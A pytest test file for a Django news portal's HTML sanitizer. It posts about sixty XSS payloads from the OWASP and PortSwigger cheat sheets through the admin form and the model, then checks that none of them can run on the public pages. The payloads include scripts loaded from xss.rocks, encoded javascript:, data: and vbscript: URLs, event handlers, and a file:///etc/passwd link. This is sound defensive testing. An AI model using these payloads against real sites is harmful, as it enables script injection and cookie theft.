"""Nothing a staff member types or pastes into an article can run in a reader's browser.

XSS payloads from public cheat sheets (OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat
sheet) go through the admin form (as a superuser would post them) and through the model, into the body, the
title, the lead and the lead image's caption and alternative text; the article is published and its public
pages are read as a browser would: no script but JSON-LD, no event handler, no javascript:/data:/vbscript:
URL, no frame, plugin, form, SVG/MathML, <base>, <meta http-equiv> or <style>. What the editor makes (bold,
lists, tables, captioned images, links) survives.
"""
import io
import re
from datetime import date, timedelta
from html.parser import HTMLParser

import pytest
from django.contrib.staticfiles import finders
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from PIL import Image as PillowImage

from news.models import Article, Directive, Image
from news.sanitize import ALLOWED_TAGS, is_external_link, sanitize_html
from tests.pages import elements, texts

# (source, payload). Short facts copied by hand from the cheat sheets; each is under 300 characters so it
# also fits a title or a caption.
OWASP = "OWASP XSS Filter Evasion"
PORTSWIGGER = "PortSwigger XSS cheat sheet"
PAYLOADS = [
    (OWASP, '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>'),
    (OWASP, "javascript:/*--></title></style></textarea></script></xmp>"
            "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"),
    (OWASP, "<IMG SRC=\"javascript:alert('XSS');\">"),
    (OWASP, "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    (OWASP, "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    (OWASP, '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    (OWASP, '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    (OWASP, "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    (OWASP, '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    (OWASP, "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;"
            "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
    (OWASP, "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
            "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>"),
    (OWASP, "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
            "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"),
    (OWASP, "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    (OWASP, "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    (OWASP, "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    (OWASP, "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    (OWASP, "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    (OWASP, '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    (OWASP, '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    (OWASP, '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    (OWASP, "<SCRIPT SRC=http://xss.rocks/xss.js?< B >"),
    (OWASP, '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    (OWASP, "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
    (OWASP, "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    (OWASP, "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    (OWASP, "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
    (OWASP, "<svg/onload=alert('XSS')>"),
    (OWASP, "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
    (OWASP, "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
    (OWASP, '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
            'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    (OWASP, "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    (OWASP, "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">x"),
    (OWASP, "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>"),
    (OWASP, "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>"),
    (OWASP, "<BASE HREF=\"javascript:alert('XSS');//\">"),
    (OWASP, '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'),
    (OWASP, '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3Zn"'
            ' type="image/svg+xml" AllowScriptAccess="always"></EMBED>'),
    (OWASP, '<a href="jav&#x09;ascript:alert(1)">bấm vào đây</a>'),
    (OWASP, '<a href="&#106;avascript:alert(1)">bấm vào đây</a>'),
    (OWASP, '<a href="  JAVASCRIPT:alert(1)">bấm vào đây</a>'),
    (OWASP, '<a href="java\nscript:alert(1)">bấm vào đây</a>'),
    (OWASP, '<a href="vbscript:msgbox(1)">bấm vào đây</a>'),
    (OWASP, '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm vào đây</a>'),
    (PORTSWIGGER, '<a href="javascript&colon;alert(1)">bấm vào đây</a>'),
    (PORTSWIGGER, "<details open ontoggle=alert(1)>"),
    (PORTSWIGGER, "<xss autofocus tabindex=1 onfocus=alert(1)></xss>"),
    (PORTSWIGGER, "<form><button formaction=javascript:alert(1)>CLICKME</button></form>"),
    (PORTSWIGGER, '<math><maction xlink:href="javascript:alert(1)" actiontype="statusline">click</maction></math>'),
    (PORTSWIGGER, '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    (PORTSWIGGER, '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    (PORTSWIGGER, "<video><source onerror=alert(1)></video>"),
    (PORTSWIGGER, "<audio src/onerror=alert(1)>"),
    (PORTSWIGGER, "<body onpageshow=alert(1)>"),
    (PORTSWIGGER, '<object data="javascript:alert(1)">'),
    (PORTSWIGGER, '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    (PORTSWIGGER, "<template><script>alert(1)</script></template>"),
    (PORTSWIGGER, '"><script>alert(1)</script>'),
    (PORTSWIGGER, "'><img src=x onerror=alert(1)>"),
    (PORTSWIGGER, "</script><script>alert(1)</script>"),
    (PORTSWIGGER, '<!--<img src="--><img src=x onerror=alert(1)//">'),
    (PORTSWIGGER, '<a href="https://example.org" onclick="alert(1)">bấm vào đây</a>'),
    (PORTSWIGGER, "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    (PORTSWIGGER, '<img src="x" onerror="alert(1)" style="x:expression(alert(1))">'),
    (PORTSWIGGER, "<style>@import 'javascript:alert(1)';</style>"),
]
PAYLOAD_IDS = [f"{index:02d}" for index in range(len(PAYLOADS))]
assert len(PAYLOADS) >= 30 and all(len(payload) < 300 for _source, payload in PAYLOADS)

DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "xlink:href", "background", "dynsrc", "lowsrc", "poster",
    "srcdoc", "codebase", "cite", "longdesc", "ping",
}
NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base", "style", "template",
         "noscript", "xss", "details", "video", "audio", "textarea", "select"}


def search_urls():
    urls = set()
    for lang in ("vi", "en"):
        with translation.override(lang):
            urls.add(reverse("news:search"))
    return urls


class _Tags(HTMLParser):
    """Every start tag with its attributes (names lower-cased, values unescaped), as a browser reads them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _ours(script):
    """A script file of the site's own (the print view's button): same origin, under our static files."""
    from django.conf import settings

    src = script.get("src") or ""
    return settings.STATIC_URL.startswith("/") and src.startswith(settings.STATIC_URL) and not src.startswith("//")


def executable_markup(page):
    """What on ``page`` (HTML text) could run script; an empty list when nothing can."""
    parser = _Tags()
    parser.feed(page)
    problems = []
    for tag, attrs in parser.tags:
        values = dict(attrs)
        if tag == "script" and (values.get("type") or "").lower() != "application/ld+json" and not _ours(values):
            problems.append(f"<script {values}>")
        if tag in NEVER and not (tag == "svg" and values.get("class") == "brand-mark"):  # the header's logo
            problems.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            problems.append(f"<meta http-equiv={values['http-equiv']!r}>")
        if tag == "form" and values.get("action") not in search_urls():  # the only forms are search forms
            problems.append(f"<form {values}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                problems.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES or name.endswith(":href"):
                # Browsers drop spaces, tabs, newlines and control characters before reading the scheme.
                squeezed = re.sub(r"[\x00-\x20\x7f]", "", value or "").lower()
                if squeezed.startswith(DANGEROUS_SCHEMES):
                    problems.append(f"<{tag} {name}={value!r}>")
    # What the parser may read differently from a browser: raw "<script" only where the JSON-LD block is.
    lowered = page.lower()
    json_ld = sum(1 for tag, attrs in parser.tags if tag == "script")
    if lowered.count("<script") != json_ld:
        problems.append("a raw <script outside the parsed tags")
    logos = sum(1 for tag, attrs in parser.tags if tag == "svg" and dict(attrs).get("class") == "brand-mark")
    for tag in NEVER - {"details", "xss"}:
        if lowered.count(f"<{tag}") != (logos if tag == "svg" else 0):
            problems.append(f"raw <{tag}")
    return problems


@pytest.mark.parametrize("markup", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<iframe src="/"></iframe>', "<svg onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=/">', "<base href=/>", "<style>p{}</style>", '<p style="x">',
    '<form action="/dang-nhap/">', '<object data="/x">', '<embed src="/x">', "<math>", '<img src="DATA:x">',
])
def test_the_page_check_finds_what_could_run(markup):
    """The check used above is not blind: each of these, left in a page, is reported."""
    assert executable_markup(f"<html><body><p>tin</p>{markup}</body></html>")


def test_the_page_check_accepts_the_portal_itself(client, make_article):
    article = make_article(body_vi="<p>Nội dung <strong>bình thường</strong>.</p>")
    assert executable_markup(client.get(vietnamese_url(article)).content.decode()) == []


# --- the admin form, filled as the browser would send it ---------------------------------------------------

class _Form(HTMLParser):
    """The fields of a form page with the values a browser would submit untouched (files left out)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.data, self._select, self._multiple, self._textarea = {}, None, False, None

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        name = values.get("name")
        if tag == "input" and name:
            kind = (values.get("type") or "text").lower()
            if kind in {"submit", "button", "file", "image", "reset"}:
                return
            if kind in {"checkbox", "radio"} and "checked" not in values:
                return
            self.data[name] = values.get("value") or ("on" if kind == "checkbox" else "")
        elif tag == "textarea" and name:
            self._textarea = name
            self.data[name] = ""
        elif tag == "select" and name:
            self._select, self._multiple = name, "multiple" in values
            if not self._multiple:
                self.data.setdefault(name, "")
        elif tag == "option" and self._select and "selected" in values:
            value = values.get("value") or ""
            if self._multiple:
                self.data.setdefault(self._select, []).append(value)
            else:
                self.data[self._select] = value

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def handle_data(self, data):
        if self._textarea:
            self.data[self._textarea] += data.lstrip("\n") if not self.data[self._textarea] else data


def admin_form(client, url, **fields):
    response = client.get(url)
    assert response.status_code == 200, url
    form = _Form()
    form.feed(response.content.decode())
    form.data.pop("csrfmiddlewaretoken", None)
    form.data.pop("q", None)  # the admin sidebar's filter box
    form.data.update(fields)
    return form.data


def png_upload(name="anh.png"):
    buffer = io.BytesIO()
    PillowImage.new("RGB", (96, 64), (30, 90, 160)).save(buffer, format="PNG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/png")


@pytest.fixture
def superuser_client(client, django_user_model):
    # No password: hashing one takes longer than the test itself.
    user = django_user_model.objects.create_user("quantri", is_staff=True, is_superuser=True)
    client.force_login(user)
    return client


def errors_of(response):
    return texts(response.content, "ul", class_="errorlist")


def publish_as_stored(article):
    """Make the article public without saving it again, so the page shows exactly what the admin stored."""
    Article.objects.filter(pk=article.pk).update(
        status=Article.Status.PUBLISHED, published_at=timezone.now() - timedelta(minutes=1)
    )
    article.refresh_from_db()
    return article


def vietnamese_url(article):
    with translation.override("vi"):
        return article.get_absolute_url()


def public_pages(client, article):
    """The article's public page and print page in both languages (HTML text)."""
    pages = {}
    for lang in ("vi", "en"):
        with translation.override(lang):
            url = article.get_absolute_url()
            print_url = reverse("news:article_print", kwargs={"section": article.section.slug, "slug": article.slug})
        for address in (url, print_url):
            response = client.get(address)
            assert response.status_code == 200, address
            pages[address] = response.content.decode()
    return pages


@pytest.mark.parametrize(("source", "payload"), PAYLOADS, ids=PAYLOAD_IDS)
def test_payload_posted_through_admin_never_runs_on_the_public_page(superuser_client, client, section, source,
                                                                    payload):
    response = superuser_client.post(
        "/admin/news/image/add/",
        admin_form(superuser_client, "/admin/news/image/add/", caption_vi=f"Chú thích {payload}",
                   caption_en=f"Caption {payload}", alt_vi=f"Mô tả {payload}", alt_en=f"Alt {payload}",
                   credit=payload[:200], file=png_upload()),
    )
    assert response.status_code == 302, errors_of(response)
    image = Image.objects.get()

    response = superuser_client.post(
        "/admin/news/article/add/",
        admin_form(
            superuser_client, "/admin/news/article/add/",
            section=str(section.pk), image=str(image.pk),
            title_vi=f"Tin thử nghiệm {payload}", title_en=f"Test news {payload}",
            lead_vi=f"Sapo {payload}", lead_en=f"Lead {payload}", source_label=payload[:40],
            body_vi=f"<p>Đoạn <strong>đậm</strong> trước.</p>{payload}<p>Đoạn sau.</p>",
            body_en=f"<p>Before.</p>{payload}<p>After.</p>",
        ),
    )
    assert response.status_code == 302, errors_of(response)
    article = publish_as_stored(Article.objects.get())

    assert not executable_markup(article.body_vi), article.body_vi  # what is stored is already clean
    for address, page in public_pages(client, article).items():
        assert executable_markup(page) == [], (address, payload)
    page = client.get(vietnamese_url(article)).content.decode()
    # The text before the payload is kept (after it too, unless the payload is an unclosed <script>/<object>,
    # which a browser would also read to the end).
    assert "<strong>đậm</strong>" in page
    # Plain-text fields show the payload to the reader as the text that was typed.
    assert texts(page, "h1") == [f"Tin thử nghiệm {payload}".strip()]
    # The photo's credit follows its caption ("Ảnh: …"), as typed too.
    credit = payload[:200].strip()
    assert texts(page, "figcaption") == [f"Chú thích {payload}".strip() + (f" Ảnh: {credit}" if credit else "")]


@pytest.mark.parametrize(("source", "payload"), PAYLOADS, ids=PAYLOAD_IDS)
def test_payload_saved_through_the_model_never_runs_on_public_pages(client, make_article, source, payload,
                                                                    django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):  # the search index is derived on commit
        image = Image.objects.create(file=png_upload(), caption_vi=payload, alt_vi=payload, credit=payload[:200])
        article = make_article(
            title_vi=f"Tin mô hình {payload}", title_en=f"Model news {payload}", lead_vi=payload, lead_en=payload,
            body_vi=f"<p>alert mở đầu</p>{payload}", body_en=f"<p>alert opening</p>{payload}",
            source_label=payload[:40], image=image,
            published_at=timezone.now() - timedelta(minutes=1),
        )
        article.attachments.create(title_vi=payload, file=SimpleUploadedFile("a.pdf", b"%PDF-1.7\n%test\n"))
    pages = public_pages(client, article)
    pages["home"] = client.get("/").content.decode()
    pages["section"] = client.get(article.section.get_absolute_url()).content.decode()
    pages["search"] = client.get(reverse("news:search"), {"q": "alert"}).content.decode()
    pages["search-payload"] = client.get(reverse("news:search"), {"q": payload[:200]}).content.decode()
    for name, page in pages.items():
        assert executable_markup(page) == [], (name, payload)
    assert "Tin mô hình" in pages["home"]


def test_payload_next_to_a_cited_document_stays_inert_in_the_linked_text(client, make_article):
    """The body and lead shown with document links (news/citations.py) are built from the cleaned text."""
    Directive.objects.create(number="05-CT/TW", document_type="chi-thi", issued_on=date(2016, 5, 15))
    payload = '<img src=x onerror=alert(1)><a href="javascript:alert(2)">Chỉ thị số 05-CT/TW</a>'
    article = make_article(
        body_vi=f"<p>Thực hiện Chỉ thị số 05-CT/TW {payload}</p>",
        lead_vi=f"Theo Chỉ thị số 05-CT/TW {payload}",
    )
    article.refresh_from_db()
    assert "directive-ref" in article.body_linked_vi and "directive-ref" in article.lead_linked_vi
    page = client.get(vietnamese_url(article)).content.decode()
    assert executable_markup(page) == []
    assert len(elements(page, "a", class_="directive-ref")) >= 2
    assert "&lt;img src=x onerror=alert(1)&gt;" in page  # the lead is plain text: the payload shows as text


# --- what the editor makes survives -------------------------------------------------------------------------

EDITOR_HTML = (
    "<h2>Tiêu đề mục</h2><h3>Mục con</h3><h4>Ý nhỏ</h4>"
    "<p>Chữ <strong>đậm</strong>, <em>nghiêng</em><br>xuống dòng.</p>"
    "<ul><li><p>Một</p></li><li><p>Hai</p></li></ul><ol start=\"3\"><li><p>Ba</p></li></ol>"
    "<blockquote><p>Trích dẫn.</p></blockquote>"
    "<table><tbody><tr><th colspan=\"1\" rowspan=\"1\"><p>Chỉ tiêu</p></th>"
    "<td colspan=\"2\" rowspan=\"1\"><p>6,5%</p></td></tr></tbody></table>"
    "<figure><img src=\"/media/images/2025/01/hoi-nghi.jpg\" alt=\"Toàn cảnh hội nghị\" width=\"800\" "
    "height=\"600\"><figcaption>Toàn cảnh <em>hội nghị</em></figcaption></figure>"
    "<p><a href=\"/van-ban/chi-thi-05-ct-tw/\">văn bản</a> và "
    "<a href=\"https://chinhphu.vn/\" rel=\"noopener noreferrer\">Cổng Chính phủ</a> và "
    "<a href=\"mailto:banbientap@mpi.gov.vn\">thư</a></p>"
)


def test_what_the_editor_makes_is_kept_exactly():
    assert sanitize_html(EDITOR_HTML) == EDITOR_HTML


def test_editor_extras_that_carry_no_meaning_are_dropped():
    # The editor's own decorations (table widths, figure class, image ids, link targets) are not stored.
    pasted = (
        '<table style="min-width: 50px"><colgroup><col style="min-width: 25px"></colgroup><tbody><tr>'
        '<td colspan="1" rowspan="1" colwidth="100"><p>x</p></td></tr></tbody></table>'
        '<figure class="figure"><img src="/media/a.jpg" alt="A" data-file="3"></figure>'
        '<p><a href="https://example.org/" target="_blank" rel="nofollow">x</a></p>'
    )
    assert sanitize_html(pasted) == (
        '<table><tbody><tr><td colspan="1" rowspan="1"><p>x</p></td></tr></tbody></table>'
        '<figure><img src="/media/a.jpg" alt="A"></figure>'
        '<p><a href="https://example.org/" rel="noopener noreferrer">x</a></p>'
    )


def test_normal_formatting_posted_through_admin_reaches_the_public_page(superuser_client, client, section):
    response = superuser_client.post(
        "/admin/news/article/add/",
        admin_form(superuser_client, "/admin/news/article/add/", section=str(section.pk),
                   title_vi="Bài có định dạng", body_vi=EDITOR_HTML, lead_vi="Sapo thường."),
    )
    assert response.status_code == 302, errors_of(response)
    article = publish_as_stored(Article.objects.get())
    page = client.get(vietnamese_url(article)).content.decode()
    assert texts(page, "strong")[-1] == "đậm" or "đậm" in texts(page, "strong")
    assert texts(page, "li")[-3:] == ["Một", "Hai", "Ba"] or {"Một", "Hai", "Ba"} <= set(texts(page, "li"))
    assert texts(page, "th") == ["Chỉ tiêu"] and texts(page, "td") == ["6,5%"]
    assert "Toàn cảnh hội nghị" in texts(page, "figcaption")
    [external] = elements(page, "a", href="https://chinhphu.vn/")
    assert external.attrs.get("rel") == "noopener noreferrer"
    [internal] = elements(page, "a", href="/van-ban/chi-thi-05-ct-tw/")
    assert "rel" not in internal.attrs
    assert executable_markup(page) == []


# --- the sanitizer's rules, one by one ----------------------------------------------------------------------

@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "  javascript:alert(1)", "\njavascript:alert(1)",
    "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
    " VbScript:msgbox(1)", "livescript:alert(1)", "file:///etc/passwd",
])
def test_unsafe_url_schemes_are_removed_however_written(href):
    escaped = href.replace('"', "&quot;")
    for markup in (f'<a href="{escaped}">x</a>', f'<img src="{escaped}" alt="x">'):
        cleaned = sanitize_html(markup)
        assert "href" not in cleaned and "src" not in cleaned, cleaned


@pytest.mark.parametrize("tag", ["script", "iframe", "object", "embed", "form", "svg", "math", "base", "meta",
                                 "link", "style", "input", "button", "textarea", "frameset", "applet", "template"])
def test_dangerous_elements_are_removed(tag):
    cleaned = sanitize_html(f'<p>trước</p><{tag} src="x" href="x" action="x">bên trong</{tag}><p>sau</p>')
    assert f"<{tag}" not in cleaned and cleaned.startswith("<p>trước</p>") and cleaned.endswith("<p>sau</p>")


def test_code_inside_removed_elements_is_removed_with_them():
    cleaned = sanitize_html("<p>a</p><script>alert(1)</script><style>p{}</style><iframe>x</iframe><p>b</p>")
    assert cleaned == "<p>a</p><p>b</p>"


def test_no_style_class_id_or_event_attribute_is_kept():
    cleaned = sanitize_html(
        '<p style="color:red" class="x" id="y" onclick="alert(1)" onmouseover="alert(2)" data-x="1">t</p>'
    )
    assert cleaned == "<p>t</p>"


def test_comments_are_removed():
    assert sanitize_html("<p>a<!-- <script>alert(1)</script> --></p><!--[if IE]><script>x</script><![endif]-->") \
        == "<p>a</p>"


@pytest.mark.parametrize(("href", "external"), [
    ("https://chinhphu.vn/", True),
    ("http://example.org/a?b=1", True),
    ("//example.org/", True),
    ("/\\example.org/", True),  # browsers read a backslash as a slash: another site
    ("HTTPS://EXAMPLE.ORG", True),
    ("/van-ban/chi-thi-05/", False),
    ("van-ban/", False),
    ("#muc-2", False),
    ("?trang=2", False),
    ("http://localhost/tin-tuc/", False),  # one of ALLOWED_HOSTS
    ("mailto:banbientap@mpi.gov.vn", False),
    ("tel:+842438455298", False),
])
def test_only_links_to_other_sites_get_noopener_noreferrer(href, external, settings):
    settings.ALLOWED_HOSTS = ["localhost", "127.0.0.1"]
    assert is_external_link(href) is external
    cleaned = sanitize_html(f'<a href="{href}" rel="opener">x</a>')
    assert ('rel="noopener noreferrer"' in cleaned) is external, cleaned
    assert "opener\"" not in cleaned.replace("noopener", "")  # the pasted rel is never kept


def test_own_domain_and_its_subdomains_count_as_internal(settings):
    settings.ALLOWED_HOSTS = [".mpi.gov.vn"]
    assert not is_external_link("https://mpi.gov.vn/tin-tuc/")
    assert not is_external_link("https://www.mpi.gov.vn/tin-tuc/")
    assert is_external_link("https://mpi.gov.vn.example.org/")
    assert is_external_link("https://evilmpi.gov.vn/")


def test_a_rel_attribute_cannot_be_smuggled_in_text_or_attributes():
    cleaned = sanitize_html('<a title="&lt;a href=&quot;https://x.org&quot;&gt;" href="/a">t</a>'
                            '<p>&lt;a href="https://x.org"&gt;</p>')
    assert cleaned.count("rel=") == 0 and cleaned.count("<a ") == 1


def test_cleaning_twice_changes_nothing():
    for _source, payload in PAYLOADS:
        once = sanitize_html(f"<p>x</p>{payload}<a href='https://example.org'>e</a>")
        assert sanitize_html(once) == once


def test_editor_offers_nothing_the_sanitizer_drops():
    """The editor and the allow-list stay in step: every tag the editor can make is stored."""
    from django_prose_editor.config import allowlist_from_extensions

    from news.admin.richtext import EDITOR_EXTENSIONS

    editor = allowlist_from_extensions(EDITOR_EXTENSIONS)
    assert editor["tags"] <= ALLOWED_TAGS
    assert {"figure", "figcaption", "img", "table", "h2", "h3", "h4", "a", "blockquote", "strong", "em",
            "ul", "ol"} <= editor["tags"]
    assert not {"h1", "h5", "h6", "span", "code", "pre"} & editor["tags"]


def test_editor_is_in_both_language_tabs_of_the_article_form(superuser_client, section):
    page = superuser_client.get("/admin/news/article/add/").content.decode()
    for lang in ("vi", "en"):
        [textarea] = elements(page, "textarea", name=f"body_{lang}")
        assert "data-django-prose-editor-configurable" in textarea.attrs
        assert f"mt-field-body-{lang}" in textarea.attrs["class"].split()  # modeltranslation's tab
    # The editor's code comes from the installed package through our own static files, not a CDN.
    scripts = [script.attrs.get("src", "") for script in elements(page, "script")]
    assert "/static/django_prose_editor/configurable.js" in scripts
    assert finders.find("django_prose_editor/editor.js") and finders.find("django_prose_editor/configurable.js")
    for lang in ("vi", "en"):  # lead and title stay plain text fields
        assert "data-django-prose-editor-configurable" not in elements(page, "textarea", name=f"lead_{lang}")[0].attrs
